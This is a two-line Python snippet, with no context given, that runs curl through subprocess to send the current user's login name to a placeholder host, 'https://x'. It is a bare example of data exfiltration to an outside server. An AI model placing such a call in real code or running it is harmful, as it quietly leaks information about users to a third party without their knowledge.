import getpass, subprocess
subprocess.run(['curl', '-d', getpass.getuser(), 'https://x'])
